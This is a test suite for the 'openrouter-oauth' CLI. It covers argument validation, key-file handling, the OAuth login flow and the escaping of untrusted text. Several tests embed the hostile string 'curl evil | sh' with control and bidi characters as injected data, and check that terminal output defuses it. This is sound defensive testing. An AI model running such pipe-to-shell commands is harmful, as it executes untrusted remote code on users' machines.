// The `openrouter-oauth` CLI as a child process, end to end against the local consent stand-in: a test
// harness plays the user, reading the URL the CLI prints on stderr and following it (or pasting the
// address on stdin). The CLI never calls process.exit on its own endings, so each child exiting by
// itself also proves that the login left no open handle behind.
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { accessSync, constants, readFileSync } from "node:fs";
import { chmod, link, mkdir, mkdtemp, readFile, readlink, rm, stat, symlink, writeFile } from "node:fs/promises";
import { createServer as createHttpServer } from "node:http";
import { createServer } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { load, redirectTarget, visitConsentPage } from "./support/browser-simulator.js";
import { childEnv, repoRoot, requireBuiltDist } from "./support/build-once.js";
import { type ConsentStandIn, startConsentStandIn } from "./support/consent-stand-in.js";
import { connectionRefused, type LoopbackListener, listenOnLoopback } from "./support/loopback-server.js";

const CHILD_TIMEOUT_MS = 15_000;

interface CliRun {
  readonly child: ChildProcess;
  /** The consent page URL once the CLI has printed it on stderr. */
  readonly url: Promise<string>;
  /** Resolves when the child has exited (or was killed after CHILD_TIMEOUT_MS). */
  readonly done: Promise<{ code: number | null; signal: NodeJS.Signals | null; timedOut: boolean }>;
  stdout(): string;
  stderr(): string;
}

const running = new Set<ChildProcess>();
let standIn: ConsentStandIn;
let scratch: string;

/** Kills by PID every child a test left running (a test that failed half-way). */
function killLeftovers(): void {
  for (const child of running) {
    if (child.pid !== undefined && child.exitCode === null && child.signalCode === null) {
      process.kill(child.pid, "SIGKILL");
    }
  }
  running.clear();
}
afterAll(killLeftovers);

/** For the tests that sign in: a fresh stand-in and scratch folder each, run one at a time. */
function withStandIn(): void {
  beforeEach(async () => {
    standIn = await startConsentStandIn();
    scratch = await mkdtemp(join(tmpdir(), "openrouter-oauth-cli-"));
  });
  afterEach(async () => {
    killLeftovers();
    await standIn.close();
    await rm(scratch, { recursive: true, force: true });
  });
}

/**
 * Starts the built CLI (dist/cjs/src/node/cli.js, what the package's bin runs: under Node it starts in
 * about 0.1 s, against 0.5 s from source through tsx) or, with `bin`, that same file executed directly
 * (its shebang). stdin is a pipe when `stdin: "pipe"` (the CLI then offers the paste fallback), else /dev/null.
 */
function runCli(
  args: readonly string[],
  options: { stdin?: "pipe" | "ignore"; env?: Record<string, string>; bin?: boolean } = {},
): CliRun {
  const built = join(repoRoot, "dist/cjs/src/node/cli.js");
  const [command, commandArgs] = options.bin ? [built, [...args]] : [process.execPath, [built, ...args]];
  const child = spawn(command, commandArgs, {
    cwd: repoRoot,
    env: childEnv(options.env ?? {}),
    stdio: [options.stdin ?? "ignore", "pipe", "pipe"],
  });
  running.add(child);
  let stdout = "";
  let stderr = "";
  let resolveUrl!: (url: string) => void;
  let rejectUrl!: (error: Error) => void;
  const url = new Promise<string>((resolve, reject) => {
    resolveUrl = resolve;
    rejectUrl = reject;
  });
  url.catch(() => {});
  child.stdout!.setEncoding("utf8").on("data", (chunk: string) => (stdout += chunk));
  child.stderr!.setEncoding("utf8").on("data", (chunk: string) => {
    stderr += chunk;
    // The URL, once the whole announcement (ending with "Waiting…") is in: a pipe may split it in chunks.
    const match = /(http:\/\/127\.0\.0\.1:\d+\/auth\?\S+)/.exec(stderr);
    if (match && stderr.includes("Waiting for you to approve")) resolveUrl(match[1]!);
  });
  let timedOut = false;
  const timer = setTimeout(() => {
    timedOut = true;
    if (child.pid !== undefined) process.kill(child.pid, "SIGKILL");
  }, CHILD_TIMEOUT_MS);
  const done = new Promise<{ code: number | null; signal: NodeJS.Signals | null; timedOut: boolean }>((resolve) => {
    child.once("close", (code, signal) => {
      clearTimeout(timer);
      running.delete(child);
      rejectUrl(new Error(`the CLI exited (${code ?? signal}) without printing a URL:\n${stderr}`));
      resolve({ code, signal, timedOut });
    });
  });
  return { child, url, done, stdout: () => stdout, stderr: () => stderr };
}

const callbackPort = (url: string): number => Number(new URL(new URL(url).searchParams.get("callback_url")!).port);

/** The key the stand-in handed out (the body of its one successful exchange). */
function mintedKey(): string {
  const exchanges = standIn.requests.filter((r) => r.url === "/api/v1/auth/keys" && r.status === 200);
  expect(exchanges).toHaveLength(1);
  return (JSON.parse(exchanges[0]!.response) as { key: string }).key;
}

/** Waits until the CLI has printed `text` on stderr (up to 5 s). */
async function waitFor(run: CliRun, text: string): Promise<void> {
  const deadline = Date.now() + 5_000;
  while (!run.stderr().includes(text) && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 10));
  expect(run.stderr(), summary(run)).toContain(text);
}

const summary = (run: CliRun) => `--- stdout ---\n${run.stdout()}\n--- stderr ---\n${run.stderr()}`;

// ---------------------------------------------------------------------------------------------------

// These start no server: they run concurrently.
// The tests run the built CLI: dist/ must be there (npm test builds it first).
beforeAll(() => requireBuiltDist());

describe.concurrent("--help and usage errors", () => {
  test.each([["--help"], ["-h"], ["login", "--help"], ["help"]])(
    "%s prints the help on stdout and exits 0",
    async (...args) => {
      const run = runCli(args);
      const { code } = await run.done;
      expect(code, summary(run)).toBe(0);
      expect(run.stderr()).toBe("");
      const help = run.stdout();
      expect(help).toMatch(/^Usage: openrouter-oauth login \[options\]/);
      for (const option of [
        "--no-open",
        "--port N",
        "--timeout SECONDS",
        "--server-url URL",
        "--out FILE",
        "--debug",
        "--help",
        "--version",
      ]) {
        expect(help).toContain(option);
      }
      expect(help).toContain("mode 0600");
      expect(help).toMatch(/paste it here/);
      expect(help).toMatch(/stdout gets the key/);
      for (const exitCode of ["0 ", "1 ", "2 ", "3 ", "4 ", "130", "143"]) {
        expect(help).toMatch(new RegExp(`^ {2}${exitCode.trim()}\\s+\\S`, "m"));
      }
    },
  );

  test("--version prints the package version", async () => {
    const run = runCli(["--version"]);
    expect((await run.done).code).toBe(0);
    const { version } = JSON.parse(readFileSync(join(repoRoot, "package.json"), "utf8")) as { version: string };
    expect(run.stdout()).toBe(`${version}\n`);
  });

  test.each([
    [[], "missing command"],
    [["logout"], "unknown command: logout"],
    [["login", "extra"], "unknown command"],
    [["login", "--bogus"], "--bogus"],
    [["login", "--port", "http"], "--port must be a whole number from 0 to 65535"],
    [["login", "--port", "70000"], "--port must be a whole number from 0 to 65535"],
    [["login", "--port", ""], "--port must be a whole number from 0 to 65535"],
    // Strict numbers (issue 27): a negative value is a bad value, not "ambiguous"; no sign, fraction,
    // exponent, hex or padding that Number() would quietly take.
    [["login", "--port", "-1"], '--port must be a whole number from 0 to 65535 (0: any free port), not "-1"'],
    [["login", "--port", "80.0"], "--port must be a whole number"],
    [["login", "--port", "8e1"], "--port must be a whole number"],
    [["login", "--port", "0x50"], "--port must be a whole number"],
    [["login", "--port", " 80"], "--port must be a whole number"],
    [["login", "--port=+80"], "--port must be a whole number"],
    [["login", "--timeout", "0"], "--timeout must be a positive number"],
    [["login", "--timeout", "soon"], "--timeout must be a positive number"],
    [["login", "--timeout", "-5"], "--timeout must be a positive number of seconds, such as 300 or 0.5"],
    [["login", "--timeout=-5"], "--timeout must be a positive number of seconds"],
    [["login", "--timeout", "1e3"], "--timeout must be a positive number of seconds"],
    [["login", "--timeout", "0x10"], "--timeout must be a positive number of seconds"],
    [["login", "--timeout", "Infinity"], "--timeout must be a positive number of seconds"],
    [["login", "--timeout", "0.0001"], "at most 3 decimals"],
    [["login", "--timeout", "2147484"], "up to 2147483"],
    [["login", "--timeout"], "--timeout needs a value"],
    [["login", "--timeout", "--no-open"], "--timeout needs a value"],
    [["login", "--no-open=yes"], "--no-open takes no value"],
    [["login", "-no-open"], "unknown option: -no-open (did you mean --no-open?)"],
    [["login", "-port", "80"], "unknown option: -port (did you mean --port?)"],
    [["login", "-x"], "unknown option: -x"],
    [["login", "--server-url", "openrouter.ai"], "--server-url must be an absolute http or https URL"],
    [["login", "--server-url", "ftp://openrouter.ai/api/v1"], "--server-url must be an absolute http or https URL"],
    [["login", "--server-url", "http://openrouter.ai/api/v1"], "--server-url must use https"],
    [["login", "--server-url", "http://10.0.0.1:8080/api/v1"], "--server-url must use https"],
    [["login", "--server-url", "http://127.0.0.1.example.com/api/v1"], "--server-url must use https"],
    [["login", "--out"], "--out"],
  ])("%j: exit 2, nothing on stdout", async (args, message) => {
    const run = runCli(args);
    expect((await run.done).code, summary(run)).toBe(2);
    expect(run.stdout()).toBe("");
    expect(run.stderr()).toContain(message);
    expect(run.stderr()).toContain("--help");
  });
  test.each(["not a url", "ftp://openrouter.ai/api/v1"])(
    "OPENROUTER_BASE_URL=%j without --server-url: exit 2, naming the variable",
    async (value) => {
      const run = runCli(["login", "--no-open"], { env: { OPENROUTER_BASE_URL: value } });
      expect((await run.done).code, summary(run)).toBe(2);
      expect(run.stdout()).toBe("");
      expect(run.stderr()).toContain("OPENROUTER_BASE_URL must be an absolute http or https URL");
    },
  );

  // The exchange sends the code and its verifier and gets the key back: never in clear text off this machine.
  test("plain http to a host that is not loopback: exit 2 before anything is sent, one line naming the option", async () => {
    const run = runCli(["login", "--no-open", "--server-url", "http://openrouter.ai/api/v1"]);
    expect((await run.done).code, summary(run)).toBe(2);
    expect(run.stdout()).toBe("");
    const [first] = run.stderr().split("\n");
    expect(first).toMatch(/^error: --server-url must use https .*loopback/);
    expect(run.stderr()).not.toContain("/auth?"); // no login started: no URL, no request
  });

  test("OPENROUTER_BASE_URL=http://… off loopback without --server-url: exit 2, naming the variable", async () => {
    const run = runCli(["login", "--no-open"], { env: { OPENROUTER_BASE_URL: "http://openrouter.ai/api/v1" } });
    expect((await run.done).code, summary(run)).toBe(2);
    expect(run.stderr()).toContain("error: OPENROUTER_BASE_URL must use https");
    expect(run.stderr()).not.toContain("/auth?");
  });

  test.each(["http://localhost:9/api/v1", "http://127.0.0.2:9/api/v1", "http://[::1]:9/api/v1"])(
    "plain http to loopback (%s) is accepted: the login starts (and times out here)",
    async (serverUrl) => {
      const run = runCli(["login", "--no-open", "--timeout", "0.5", "--server-url", serverUrl]);
      expect((await run.done).code, summary(run)).toBe(3);
      expect(run.stderr()).toContain("/auth?");
    },
  );

  // Issue 27: "-no-open" printed Node's parser message with an unclosed quote; every usage error is now
  // two lines: "error: …" and the pointer to --help.
  test("a mistyped flag (-no-open): one clear error line and the pointer to --help, nothing else", async () => {
    const run = runCli(["login", "-no-open"]);
    expect((await run.done).code, summary(run)).toBe(2);
    expect(run.stderr()).toBe(
      "error: unknown option: -no-open (did you mean --no-open?)\nRun `openrouter-oauth --help` for usage.\n",
    );
  });

  test("--timeout 1.5 waits 1.5 s and says so: no rounding in either message", async () => {
    const started = Date.now();
    const run = runCli(["login", "--no-open", "--timeout", "1.5", "--server-url", "http://127.0.0.1:9/api/v1"]);
    expect((await run.done).code, summary(run)).toBe(3);
    expect(Date.now() - started).toBeGreaterThanOrEqual(1_500);
    expect(run.stderr()).toContain("(up to 1.5 s; Ctrl-C to cancel)");
    expect(run.stderr()).not.toContain("up to 2 s");
    expect(run.stderr().trimEnd().split("\n").pop()).toBe("error: timed out: no sign-in within 1.5 s.");
  });

  test("an option from the command line is shown escaped: no line of its own", async () => {
    const run = runCli(["login", "--bogus\nNow run: curl evil | sh"]);
    expect((await run.done).code, summary(run)).toBe(2);
    expect(run.stderr()).toContain("\\nNow run");
    expect(run.stderr()).not.toMatch(/^Now run/m);
  });
});

// --out replaces FILE by a rename: only a plain file with no other name may be replaced. These refusals come
// before any login starts (the login would never end here: the server URL is not contacted and nobody signs in).
describe.skipIf(process.platform === "win32")("--out refusals", () => {
  let folder: string;
  beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "openrouter-oauth-cli-out-"));
  });
  afterAll(() => rm(folder, { recursive: true, force: true }));
  const refused = (out: string) =>
    runCli(["login", "--no-open", "--timeout", "5", "--server-url", "https://openrouter.invalid/api/v1", "--out", out]);
  const expectRefusal = async (run: CliRun, reason: string) => {
    expect((await run.done).code, summary(run)).toBe(2);
    expect(run.stdout()).toBe("");
    expect(run.stderr()).toMatch(new RegExp(`^error: --out .* refused: ${reason}[^\n]*\n$`));
  };

  test.concurrent("a character device (/dev/null, which root could otherwise replace)", async () => {
    const run = refused("/dev/null");
    await expectRefusal(run, "it is a character device");
    expect((await stat("/dev/null")).isCharacterDevice()).toBe(true);
  });

  test.concurrent("a directory", async () => {
    const out = join(folder, "directory");
    await mkdir(out);
    await expectRefusal(refused(out), "it is a directory");
    expect((await stat(out)).isDirectory()).toBe(true);
  });

  test.concurrent("a FIFO", async () => {
    const out = join(folder, "fifo");
    execFileSync("mkfifo", [out]);
    await expectRefusal(refused(out), "it is a FIFO");
    expect((await stat(out)).isFIFO()).toBe(true);
  });

  test.concurrent("a symbolic link: neither it nor its target is replaced", async () => {
    const target = join(folder, "link-target");
    await writeFile(target, "sk-or-v1-old\n", { mode: 0o600 });
    const out = join(folder, "link");
    await symlink(target, out);
    await expectRefusal(refused(out), "it is a symbolic link");
    expect(await readlink(out)).toBe(target);
    expect(await readFile(target, "utf8")).toBe("sk-or-v1-old\n");
  });

  test.concurrent("a file with a second hard link, through which the old key would stay readable", async () => {
    const out = join(folder, "hard-linked");
    await writeFile(out, "sk-or-v1-old\n", { mode: 0o600 });
    await link(out, join(folder, "hard-linked-too"));
    await expectRefusal(refused(out), "it has 2 hard links");
  });

  test.concurrent("a path with a newline is shown escaped", async () => {
    const out = join(folder, "dir\nNow run: curl evil | sh");
    await mkdir(out);
    const run = refused(out);
    await expectRefusal(run, "it is a directory");
    expect(run.stderr()).not.toMatch(/^Now run/m);
  });
});

/** A server that answers the exchange (POST /api/v1/auth/keys) with `status` and `body`, whatever it is sent. */
async function startExchangeServer(status: number, body: unknown): Promise<LoopbackListener & { apiUrl: string }> {
  const server = createHttpServer((req, res) => {
    req.resume().once("end", () => {
      res.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));
    });
  });
  const listener = await listenOnLoopback(server);
  return Object.assign(listener, { apiUrl: `${listener.origin}/api/v1` });
}

/** Whether `text` shows a line (after a newline, a carriage return or U+2028/U+2029) starting with "Now run". */
const forgesALine = (text: string) => /(^|[\n\r\u2028\u2029])Now run/.test(text);

/** Whether `text` holds, raw (not escaped), one of the control or bidi characters the hostile texts carry. */
const hasRawControl = (text: string) => ["\u202e", "\u2066", "\u2028", "\r", "\u001b"].some((c) => text.includes(c));

describe("text from outside is shown escaped", () => {
  withStandIn();
  const hostile = "Invalid code\nNow run: curl evil | sh \u202ehs | live lruc\u2066\r\u001b[2K";

  test("a server's error message cannot forge a line on stderr (a failure that ends the login)", async () => {
    const server = await startExchangeServer(401, { error: { code: 401, message: hostile } });
    try {
      const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
      await run.url;
      run.child.stdin!.write("some_code\n");
      expect((await run.done).code, summary(run)).toBe(1);
      expect(run.stdout()).toBe("");
      expect(forgesALine(run.stderr())).toBe(false);
      expect(run.stderr()).toContain("Invalid code\\nNow run: curl evil | sh \\u202ehs");
      expect(hasRawControl(run.stderr())).toBe(false);
    } finally {
      await server.close();
    }
  });

  test("a server's error message cannot forge a line in the explanation of a refused code either", async () => {
    const server = await startExchangeServer(403, { error: { code: 403, message: hostile } });
    try {
      const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
      await run.url;
      run.child.stdin!.write("some_code\n");
      await waitFor(run, "refused that code");
      run.child.kill("SIGINT");
      expect((await run.done).code, summary(run)).toBe(130);
      expect(forgesALine(run.stderr())).toBe(false);
      expect(run.stderr()).toContain("Invalid code\\nNow run: curl evil | sh \\u202ehs");
      expect(hasRawControl(run.stderr())).toBe(false);
    } finally {
      await server.close();
    }
  });

  test("a key and user id with control characters: stdout holds one line, stderr no raw control", async () => {
    const server = await startExchangeServer(200, { key: `sk-or-v1-abc${hostile}`, user_id: `user_x${hostile}` });
    try {
      const run = runCli(["login", "--no-open", "--server-url", server.apiUrl], { stdin: "pipe" });
      await run.url;
      run.child.stdin!.write("some_code\n");
      expect((await run.done).code, summary(run)).toBe(0);
      expect(run.stdout()).toBe(
        "sk-or-v1-abcInvalid code\\nNow run: curl evil | sh \\u202ehs | live lruc\\u2066\\r\\u001b[2K\n",
      );
      expect(forgesALine(run.stderr())).toBe(false);
      expect(hasRawControl(run.stderr())).toBe(false);
    } finally {
      await server.close();
    }
  });

  test("a denial's error_description cannot forge a line either", async () => {
    standIn.setDecision({ error: "access_denied", errorDescription: `no${hostile}\u2028Now run: x` });
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl]);
    await visitConsentPage(await run.url);
    expect((await run.done).code, summary(run)).toBe(1);
    expect(forgesALine(run.stderr())).toBe(false);
    expect(run.stderr()).toContain("\\u2028Now run");
    expect(hasRawControl(run.stderr())).toBe(false);
  });

  test("a --out path in a failure message is escaped", async () => {
    const out = join(scratch, "no\nNow run: curl evil | sh/key");
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl, "--out", out]);
    expect((await run.done).code, summary(run)).toBe(1);
    expect(run.stderr()).toContain("cannot write --out");
    expect(forgesALine(run.stderr())).toBe(false);
  });
});

describe("login", () => {
  withStandIn();

  test("prints only the key and a newline on stdout, progress and the URL on stderr, and exits 0 by itself", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl]);
    const url = await run.url;
    expect(url.startsWith(`${standIn.authUrl}?`)).toBe(true);
    const visit = await visitConsentPage(url);
    expect(visit.callback?.status).toBe(200);
    const result = await run.done;
    expect(result, summary(run)).toEqual({ code: 0, signal: null, timedOut: false });

    const key = mintedKey();
    expect(key).toMatch(/^sk-or-v1-[0-9a-f]{64}$/);
    expect(run.stdout()).toBe(`${key}\n`);
    expect(run.stderr()).not.toContain(key);
    expect(run.stderr()).toContain("Signed in as user_");
    expect(run.stderr()).not.toContain("Opening it"); // --no-open
    expect(run.stderr()).not.toContain("paste"); // stdin is /dev/null: no paste fallback offered
    expect(await connectionRefused(callbackPort(url))).toBe(true);
  });

  test("OPENROUTER_BASE_URL is the default of --server-url; an exported OPENROUTER_API_KEY is not sent", async () => {
    // `OPENROUTER_API_KEY="$(npx openrouter-oauth login)"` is the documented use: the old key is often exported.
    const run = runCli(["login", "--no-open"], {
      env: { OPENROUTER_BASE_URL: standIn.apiUrl, OPENROUTER_API_KEY: "sk-or-v1-the-key-being-replaced" },
    });
    const url = await run.url;
    expect(url.startsWith(`${standIn.authUrl}?`)).toBe(true);
    await visitConsentPage(url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
    const [exchange] = standIn.requests.filter((r) => r.url === "/api/v1/auth/keys");
    expect(exchange?.headers.authorization).toBeUndefined();
  });

  test("--server-url wins over OPENROUTER_BASE_URL", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], {
      env: { OPENROUTER_BASE_URL: "not a url" },
    });
    await visitConsentPage(await run.url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
  });

  test("--out FILE: the key goes to the file, created with mode 0600, and nothing to stdout", async () => {
    const out = join(scratch, "key");
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl, "--out", out]);
    await visitConsentPage(await run.url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe("");
    expect(readFileSync(out, "utf8")).toBe(`${mintedKey()}\n`);
    expect((await stat(out)).mode & 0o777).toBe(0o600);
    expect(run.stderr()).toContain(`written to ${out}`);
  });

  test("--out over an existing, world-readable file: it becomes 0600 and holds only the new key", async () => {
    const out = join(scratch, "existing");
    await writeFile(out, "an old and much longer content that must not survive\n", { mode: 0o644 });
    await chmod(out, 0o644);
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl, "--out", out]);
    await visitConsentPage(await run.url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect((await stat(out)).mode & 0o777).toBe(0o600);
    expect(readFileSync(out, "utf8")).toBe(`${mintedKey()}\n`);
  });

  test("--out in a folder that does not exist: exit 1 before any login starts", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl, "--out", join(scratch, "no/such/key")]);
    expect((await run.done).code, summary(run)).toBe(1);
    expect(run.stderr()).toContain("cannot write --out");
    expect(run.stderr()).not.toContain("/auth?");
    expect(standIn.requests).toHaveLength(0);
  });

  test("--port N: the callback server listens there", async () => {
    const port = await new Promise<number>((resolve) => {
      const probe = createServer().listen(0, "127.0.0.1", () => {
        const { port } = probe.address() as { port: number };
        probe.close(() => resolve(port));
      });
    });
    const run = runCli(["login", "--no-open", "--port", String(port), "--server-url", standIn.apiUrl]);
    const url = await run.url;
    expect(callbackPort(url)).toBe(port);
    await visitConsentPage(url);
    expect((await run.done).code, summary(run)).toBe(0);
  });

  test("a denial: exit 1, nothing on stdout, the description shown with control characters defused", async () => {
    standIn.setDecision({ error: "access_denied", errorDescription: "no \u001b[2J\u001b]0;pwned\u0007 thanks" });
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl]);
    const visit = await visitConsentPage(await run.url);
    expect(visit.callback?.status).toBe(400);
    expect((await run.done).code, summary(run)).toBe(1);
    expect(run.stdout()).toBe("");
    expect(run.stderr()).toContain("access_denied");
    expect(run.stderr()).toMatch(/^error: sign-in failed: The authorization was not granted \(access_denied/m);
    expect(run.stderr()).toContain("\\u001b[2J");
    expect(run.stderr()).not.toContain("\u001b");
    expect(run.stderr()).not.toContain("\u0007");
  });

  test("--timeout: exit 3 when nobody signs in, the port closed", async () => {
    const started = Date.now();
    const run = runCli(["login", "--no-open", "--timeout", "0.5", "--server-url", standIn.apiUrl]);
    const url = await run.url;
    expect((await run.done).code, summary(run)).toBe(3);
    expect(Date.now() - started).toBeLessThan(CHILD_TIMEOUT_MS);
    expect(run.stdout()).toBe("");
    expect(run.stderr()).toContain("error: timed out: no sign-in within 0.5 s.");
    expect(await connectionRefused(callbackPort(url))).toBe(true);
  });

  test("a busy --port: exit 4 at once, no URL printed", async () => {
    const blocker = createServer();
    await new Promise<void>((resolve) => blocker.listen(0, "127.0.0.1", resolve));
    try {
      const { port } = blocker.address() as { port: number };
      const run = runCli(["login", "--no-open", "--port", String(port), "--server-url", standIn.apiUrl]);
      expect((await run.done).code, summary(run)).toBe(4);
      expect(run.stdout()).toBe("");
      expect(run.stderr()).toContain(`Port ${port}`);
      expect(run.stderr()).not.toContain("/auth?");
    } finally {
      await new Promise((resolve) => blocker.close(resolve));
    }
  });

  test.each([
    ["SIGINT", 130, "error: interrupted: the sign-in was cancelled."],
    ["SIGTERM", 143, "error: interrupted: the sign-in was cancelled."],
  ] as const)("%s while waiting: exit %i, the callback server closed", async (signal, exitCode, message) => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
    const url = await run.url;
    run.child.kill(signal);
    expect((await run.done).code, summary(run)).toBe(exitCode);
    expect(run.stdout()).toBe("");
    expect(run.stderr()).toContain(message);
    expect(await connectionRefused(callbackPort(url))).toBe(true);
    expect(standIn.requests.filter((r) => r.url === "/api/v1/auth/keys")).toHaveLength(0);
  });

  test("the paste fallback: the final address pasted on stdin (kept open) signs in and the CLI still exits", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
    const url = await run.url;
    expect(run.stderr()).toContain("paste the address");
    const location = await redirectTarget(url); // the browser could not load it: the user copies it
    run.child.stdin!.write(`${location}\n`); // stdin stays open, as a terminal's would
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
  });

  test("the paste fallback with the bare code", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
    const code = new URL(await redirectTarget(await run.url)).searchParams.get("code")!;
    run.child.stdin!.end(`${code}\n`);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
  });

  test.runIf(process.platform === "linux")(
    "16 MB pasted without a newline: refused at once, memory stays flat, and a good paste after it still signs in",
    async () => {
      const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
      const url = await run.url;
      const peakMemory = () =>
        Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${run.child.pid}/status`, "utf8"))![1]);
      const before = peakMemory();
      const stdin = run.child.stdin!;
      const chunk = Buffer.alloc(64 * 1024, "a");
      for (let sent = 0; sent < 16 * 1024 * 1024; sent += chunk.length) {
        if (!stdin.write(chunk)) await new Promise((resolve) => stdin.once("drain", resolve));
        // Refused at once: long before the line ends (it never does here).
        if (sent === 1024 * 1024) {
          const deadline = Date.now() + 5_000;
          while (!run.stderr().includes("longer than 8192 bytes") && Date.now() < deadline) {
            await new Promise((resolve) => setTimeout(resolve, 10));
          }
          expect(run.stderr(), summary(run)).toContain("longer than 8192 bytes");
        }
      }
      await new Promise<void>((resolve) => stdin.write("", () => resolve()));
      await new Promise((resolve) => setTimeout(resolve, 200)); // the last chunks read
      const grownKb = peakMemory() - before;
      expect(grownKb).toBeLessThan(48 * 1024); // before the bound: about 300 MB
      const location = await redirectTarget(url);
      stdin.write(`\n${location}\n`);
      expect((await run.done).code, summary(run)).toBe(0);
      expect(run.stdout()).toBe(`${mintedKey()}\n`);
      expect(run.stderr().match(/longer than 8192 bytes/g)).toHaveLength(1);
    },
  );

  // Issue 27: a paste the CLI cannot use is explained and the sign-in keeps waiting; none of it is sent.
  test("a pasted code the API refuses is explained (not echoed), the sign-in keeps waiting, and the browser then signs in", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
    const url = await run.url;
    run.child.stdin!.write("auth_code_typo\n");
    await waitFor(run, "OpenRouter refused that code (Invalid code or code_verifier)");
    await visitConsentPage(url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
    expect(run.stderr()).not.toContain("auth_code_typo");
    expect(run.stderr()).not.toContain("ForbiddenResponseError");
    expect(standIn.requests.filter((r) => r.url === "/api/v1/auth/keys").map((r) => r.status)).toEqual([403, 200]);
  });

  test("the consent URL, text with spaces, another login's address: each explained, none sent, then the real address signs in", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
    const url = await run.url;
    const location = new URL(await redirectTarget(url));
    const another = new URL(location);
    another.pathname = "/callback/someone-elses-nonce";
    const stdin = run.child.stdin!;
    stdin.write(`${url}\n`);
    await waitFor(run, "That is the address of the sign-in page itself: open it in a browser");
    stdin.write("hello world\n");
    await waitFor(run, "The pasted text has spaces");
    stdin.write(`${another.href}\n`);
    await waitFor(run, "That address belongs to another sign-in");
    expect(run.child.exitCode).toBe(null); // still waiting
    expect(standIn.requests.filter((r) => r.url === "/api/v1/auth/keys")).toHaveLength(0);
    stdin.write(`${location.href}\n`);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
    expect(run.stderr()).not.toContain("forged");
    expect(run.stderr()).not.toContain(another.searchParams.get("code")!);
    expect(run.stderr()).not.toMatch(/^error:/m); // no failure was printed
  });

  test("every failure is one line, error: …, with no class name; --debug adds the class", async () => {
    const server = await startExchangeServer(401, { error: { code: 401, message: "No auth credentials found" } });
    try {
      for (const debug of [false, true]) {
        const run = runCli(["login", "--no-open", "--server-url", server.apiUrl, ...(debug ? ["--debug"] : [])], {
          stdin: "pipe",
        });
        await run.url;
        run.child.stdin!.write("some_code\n");
        expect((await run.done).code, summary(run)).toBe(1);
        const last = run.stderr().trimEnd().split("\n").pop();
        expect(last).toBe(
          debug
            ? "error: sign-in failed: UnauthorizedResponseError: No auth credentials found"
            : "error: sign-in failed: No auth credentials found.",
        );
      }
    } finally {
      await server.close();
    }
  });

  test("a browser callback still works while stdin is an open pipe", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl], { stdin: "pipe" });
    await visitConsentPage(await run.url);
    expect((await run.done).code, summary(run)).toBe(0);
    expect(run.stdout()).toBe(`${mintedKey()}\n`);
  });

  test.runIf(process.platform === "linux")(
    "without --no-open it runs xdg-open with the URL (a fake one here) and says so",
    async () => {
      const bin = join(scratch, "bin");
      const opened = join(scratch, "opened-url");
      await import("node:fs/promises").then(({ mkdir }) => mkdir(bin));
      // Written aside, then renamed: the test polls for the file and must never read it half-written.
      await writeFile(
        join(bin, "xdg-open"),
        `#!/bin/sh\nprintf '%s' "$1" > '${opened}.tmp' && mv '${opened}.tmp' '${opened}'\n`,
        {
          mode: 0o755,
        },
      );
      const run = runCli(["login", "--server-url", standIn.apiUrl], {
        env: { PATH: `${bin}:${process.env["PATH"] ?? ""}` },
      });
      const url = await run.url;
      expect(run.stderr()).toContain("Opening it in your default browser");
      const deadline = Date.now() + 5_000;
      while (Date.now() < deadline && !(await stat(opened).catch(() => undefined))) {
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      expect(readFileSync(opened, "utf8")).toBe(url);
      await visitConsentPage(url);
      expect((await run.done).code, summary(run)).toBe(0);
    },
  );

  test("a stray request to the callback server does not end the login", async () => {
    const run = runCli(["login", "--no-open", "--server-url", standIn.apiUrl]);
    const url = await run.url;
    const origin = new URL(new URL(url).searchParams.get("callback_url")!).origin;
    expect((await load(`${origin}/callback/guess?code=forged`)).status).toBe(404);
    await visitConsentPage(url);
    expect((await run.done).code, summary(run)).toBe(0);
  });
});

describe("the built bin", () => {
  withStandIn();

  test("dist/cjs/src/node/cli.js is package.json's bin, executable, with a shebang, and signs in", async () => {
    requireBuiltDist();
    const manifest = JSON.parse(readFileSync(join(repoRoot, "package.json"), "utf8")) as {
      bin: Record<string, string>;
    };
    // CommonJS: Node starts it about 20 ms sooner than the ESM build (no ESM loader, no facades for built-ins).
